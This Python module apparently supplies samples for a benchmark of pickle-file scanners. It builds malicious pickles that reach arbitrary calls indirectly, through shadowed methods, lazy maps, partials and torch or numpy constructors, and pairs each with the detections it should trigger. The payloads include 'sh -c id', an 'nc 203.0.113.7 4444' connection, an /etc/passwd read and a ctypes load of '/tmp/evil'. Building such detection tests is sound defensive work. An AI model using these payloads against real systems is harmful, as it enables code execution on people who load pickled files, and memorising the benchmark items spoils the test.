"""Calls that no opcode makes: what the unpickler, a known class or a known constructor calls on its own.

What is called is a function that no table knows, so that nothing but the way to it can give it away.
"""

from __future__ import annotations

from bench.detection.build.pickled import added, built, caught, extended, made, made_with, stored
from bench.detection.sample import Sample
from tests.malicious.pickles import Opcodes, call, called, literal, named

_STATES = "how CPython's unpickler looks up what it calls, and torch's __setstate__ methods"
_WALKS = "Python's documents: what constructors call on their arguments"
_HIDDEN = "sandbox-load's own review"
_TOOL = named("acme.tools", "run")
_RUN = named("shared_helpers.tools", "run_command")
_BOUND = call("functools", "partial", _RUN, "id")
_OPENER = built(made(named("argparse", "FileType")), {"_mode": "w", "_bufsize": -1, "_encoding": None, "_errors": None})
_OWNED = "/tmp/owned"


def _namespace(**attributes: object) -> Opcodes:
    return built(made(named("argparse", "Namespace")), dict(attributes))


def _optimizer(**state: object) -> Opcodes:
    return built(made(named("torch.optim.sgd", "SGD")), {"state": {}, "defaults": {}, "param_groups": [], **state})


def _weak_values() -> Opcodes:
    return built(made(named("weakref", "WeakValueDictionary")), {"data": {"a": _BOUND}, "_pending_removals": []})


def _mapped(function: Opcodes, *values: object) -> Opcodes:
    return made(named("builtins", "map"), function, list(values))


_FIRST = made(named("array", "array"), "b")

_ROWS = (
    (
        "shadowed_append",
        "APPEND calls the object's own append",
        _STATES,
        extended(_namespace(append=_RUN, extend=_RUN), "id"),
    ),
    ("shadowed_add", "ADDITEMS calls the object's own add", _STATES, added(_namespace(add=_RUN), "id")),
    (
        "shadowed_extend",
        "APPENDS calls the object's own extend",
        _STATES,
        extended(_namespace(extend=_BOUND), "x", "y"),
    ),
    (
        "shadowed_setstate",
        "the second BUILD calls the object's own __setstate__",
        _STATES,
        built(_namespace(__setstate__=_RUN), "id"),
    ),
    (
        "shadowed_mapping",
        "the same of an ordered dictionary",
        _STATES,
        built(built(call("collections", "OrderedDict"), {"__setstate__": _RUN}), {"a": "id"}),
    ),
    (
        "shadowed_opener",
        "the same with a known class that opens files",
        _STATES,
        built(_namespace(__setstate__=_OPENER), _OWNED),
    ),
    (
        "shadowed_class",
        "a state that changes the object's class",
        _STATES,
        built(made(named("types", "SimpleNamespace")), (None, {"__class__": named("shared_helpers.tools", "Runner")})),
    ),
    (
        "shadowed_step",
        "an optimizer calls what its state says while it takes it",
        _STATES,
        _optimizer(_patch_step_function=_BOUND),
    ),
    ("shadowed_defaults", "the same by its defaults", _STATES, _optimizer(defaults=_namespace(setdefault=_BOUND))),
    (
        "shadowed_conv",
        "a quantized layer sets its weight and bias",
        _STATES,
        built(made(named("torch.ao.nn.quantized.modules.conv", "Conv2d")), {"set_weight_bias": _BOUND}),
    ),
    (
        "shadowed_array",
        "numpy asks an object for its array",
        _WALKS,
        call("numpy", "array", [_namespace(__array__=_BOUND)]),
    ),
    (
        "filled_later",
        "an item set once the state is there",
        _STATES,
        stored(built(made(named("shared_helpers.tools", "Table")), {"hook": _BOUND}), "a", 1),
    ),
    (
        "tensor_setstate",
        "a tensor's own __setstate__",
        _STATES,
        built(
            call("torch._utils", "_rebuild_parameter_with_state", Opcodes(b"N"), False, {}, {"__setstate__": _BOUND}),
            (True, False, {}),
        ),
    ),
    (
        "asked_uuid",
        "a UUID of an object that says what replace is",
        _WALKS,
        call("uuid", "UUID", _namespace(replace=_BOUND)),
    ),
    (
        "asked_size",
        "a masked tensor asks for a size",
        _WALKS,
        made(named("torch.masked.maskedtensor.core", "MaskedTensor"), _namespace(size=_BOUND), None),
    ),
    (
        "asked_detach",
        "a parameter detaches what it is given",
        _WALKS,
        made(named("torch.nn.parameter", "Parameter"), _namespace(detach=_BOUND)),
    ),
    ("asked_keys", "a dictionary of an object with keys", _WALKS, call("builtins", "dict", _namespace(keys=_BOUND))),
    ("walked_array", "an array of a lazy map", _WALKS, call("array", "array", "b", _mapped(_RUN, "id"))),
    (
        "walked_second",
        "the second array, after a harmless one",
        _WALKS,
        Opcodes(_FIRST + b"0" + made(named("array", "array"), "b", _mapped(_RUN, "id"))),
    ),
    ("walked_stat", "a structure of a lazy map", _WALKS, call("posix", "stat_result", _mapped(_OPENER, _OWNED))),
    ("walked_time", "a time of a lazy map", _WALKS, call("time", "struct_time", _mapped(_RUN, "id"))),
    (
        "walked_masked",
        "a masked array of weak references that are calls",
        _WALKS,
        call("numpy.ma.core", "MaskedArray", _weak_values()),
    ),
    (
        "walked_keywords",
        "a lazy map by NEWOBJ_EX",
        _WALKS,
        call("collections", "deque", made_with(named("builtins", "filter"), (_RUN, ["id"]), {})),
    ),
    ("lazy_kept", "a lazy map that is only kept", _HIDDEN, _mapped(_RUN, "id")),
    (
        "enum_initialiser",
        "an enumeration whose initialiser is a class that opens files",
        _WALKS,
        call("enum", "Enum", "X", {"__init__": _OPENER, "A": _OWNED}),
    ),
    ("alias_called", "a generic alias, called", _WALKS, called(call("types", "GenericAlias", _RUN, ()), "id")),
    (
        "second_from_type",
        "a tensor's type, the second time with other arguments",
        _HIDDEN,
        Opcodes(
            call(
                "torch._tensor",
                "_rebuild_from_type_v2",
                named("shared_helpers.tools", "Runner"),
                named("torch", "Tensor"),
                ("a",),
                {},
            )
            + b"0"
            + call(
                "torch._tensor",
                "_rebuild_from_type_v2",
                named("shared_helpers.tools", "Runner"),
                named("torch", "Tensor"),
                ("sh -c id",),
                {},
            )
        ),
    ),
    (
        "opener_bound",
        "a class that opens files, kept with its argument",
        _HIDDEN,
        call("functools", "partial", _OPENER, _OWNED),
    ),
    (
        "reader_bound",
        "a function of numpy's core that reads files, kept",
        _HIDDEN,
        call("functools", "partial", named("numpy.core._multiarray_umath", "fromfile"), "/etc/passwd"),
    ),
    (
        "factory_bound",
        "a dictionary that calls an unknown function with a command for each key that it hasn't",
        _HIDDEN,
        call(
            "collections",
            "defaultdict",
            call("functools", "partial", _TOOL, "nc 203.0.113.7 4444"),
        ),
    ),
    (
        "factory_state",
        "a dictionary with an unknown function for its default, as what an object is given back",
        _HIDDEN,
        built(made(named("acme.tools", "Task")), call("collections", "defaultdict", _TOOL)),
    ),
    (
        "asked_date",
        "a date of an unknown object, which is asked for its number",
        _HIDDEN,
        call("datetime", "date", built(made(named("acme.tools", "Task")), {"run": "id"}), 1, 1),
    ),
    (
        "looked_up",
        "an unknown object that keeps a function, as a key",
        _HIDDEN,
        stored(literal({}), built(made(named("acme.tools", "Proxy")), {"target": _TOOL}), 1),
    ),
    (
        "loaded_by_name",
        "a library that is loaded by the name alone",
        _HIDDEN,
        Opcodes(literal("ctypes") + literal("cdll./tmp/evil") + b"\x93"),
    ),
)

_CAUGHT = (
    (
        "oddity.order oddity.shadow",
        "",
        "shadowed_append shadowed_add shadowed_extend shadowed_setstate shadowed_mapping",
    ),
    ("global.constructor.walks", "load.failed", "asked_uuid asked_size asked_date walked_masked"),
    ("global.unknown.factory", "", "factory_bound"),
    ("oddity.factory", "", "factory_state"),
    ("oddity.key", "", "looked_up"),
    ("global.applier.made global.constructor.walks global.unknown.applied", "load.failed", "walked_array walked_time"),
    ("global.dangerous.passed", "", "opener_bound reader_bound"),
    ("oddity.shadow", "", "shadowed_step shadowed_conv"),
    ("oddity.shadow", "load.failed", "shadowed_class"),
    ("global.constructor.walks oddity.shadow", "load.failed", "shadowed_array"),
    ("global.applier.made global.constructor.walks global.dangerous.passed", "event.write load.failed", "walked_stat"),
    ("global.applier.made global.constructor.walks global.unknown.applied", "", "walked_keywords"),
    (
        "global.applier.made global.constructor.walks global.unknown.applied oddity.spliced",
        "load.failed",
        "walked_second",
    ),
    ("global.applier.made global.unknown.applied", "", "lazy_kept"),
    ("global.constructor.walks oddity.method", "load.failed", "asked_keys"),
    ("global.constructor.walks reader.incomplete", "load.failed", "asked_detach"),
    ("global.dangerous.named", "load.failed", "loaded_by_name"),
    ("global.dangerous.passed global.type.called", "event.write load.failed", "enum_initialiser"),
    ("global.dangerous.named oddity.order oddity.shadow", "event.write load.failed", "shadowed_opener"),
    ("global.resolver.machinery reader.incomplete", "", "tensor_setstate"),
    ("global.result.called", "", "alias_called"),
    ("global.unknown.called oddity.spliced", "load.failed", "second_from_type"),
    ("oddity.method oddity.shadow", "", "shadowed_defaults"),
    ("oddity.order", "", "filled_later"),
)

SAMPLES: tuple[Sample, ...] = caught(_ROWS, _CAUGHT)
